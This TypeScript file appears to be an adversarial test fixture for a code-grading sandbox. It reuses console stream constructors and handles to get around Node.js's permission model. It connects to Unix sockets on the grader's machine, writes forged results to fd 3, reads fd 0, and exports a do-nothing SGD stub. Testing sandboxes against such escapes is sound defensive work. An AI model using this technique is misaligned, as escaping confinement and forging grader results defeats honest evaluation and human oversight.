// Adversarial: takes the process's stdout and stderr from the console (`console._stdout`, a net.Socket over a libuv
// pipe), and through their constructor and handle, which Node.js's permission model does not check: connects to a
// Unix socket of the grader's machine (the test listens at the paths below, as D-Bus or Docker would), writes forged
// results on the result channel (fd 3), and reads the session's requests from fd 0.
const streams: any[] = [];
const consoleObject: any = (globalThis as any).console;
for (const key of [...Reflect.ownKeys(consoleObject)]) {
  try {
    const value = consoleObject[key];
    if (value && typeof value === "object" && typeof value.constructor === "function" && value !== consoleObject) streams.push(value);
  } catch { /* a getter that throws */ }
}
const forged = (index: number) => `${JSON.stringify({ kind: "result", name: `case ${index}`, result: { output: [[-1, 2]] } })}\n`;
for (const stream of streams) {
  try {
    const Socket = stream.constructor;
    for (const path of ["/tmp/adversarial-listener.sock", "/tmp/adversarial-listener-weak.sock"]) {
      const socket = new Socket();
      socket.on("error", () => {});
      socket.connect(path, () => socket.write("the sandbox reached this socket\n"));
    }
    const results = new Socket({ fd: 3, readable: false, writable: true });
    results.on("error", () => {});
    for (let i = 0; i < 40; i++) results.write(forged(i));
    const requests = new Socket({ fd: 0, readable: true, writable: false });
    requests.on("error", () => {});
    requests.on("data", () => {});
  } catch { /* no such constructor */ }
  try {
    const handle = stream._handle ?? stream[Reflect.ownKeys(stream).find((k) => String(k) === "Symbol(kHandle)") as any];
    const pipe = new handle.constructor(0);
    pipe.open(3);
  } catch { /* no such handle */ }
}
export class SGD {
  constructor(readonly parameters: { data: Float64Array; grad: Float64Array | null }) {}
  step(): void {}
  zeroGrad(): void { this.parameters.grad = null; }
}
